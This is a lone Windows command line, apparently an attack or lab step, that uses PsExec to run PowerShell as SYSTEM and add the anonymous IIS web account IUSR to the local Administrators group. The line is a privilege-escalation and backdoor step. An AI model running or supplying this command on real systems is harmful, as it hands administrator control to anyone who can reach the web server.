& C:\tools\PsExec.exe -accepteula -s -h powershell.exe -Command "Add-LocalGroupMember Administrators IUSR"
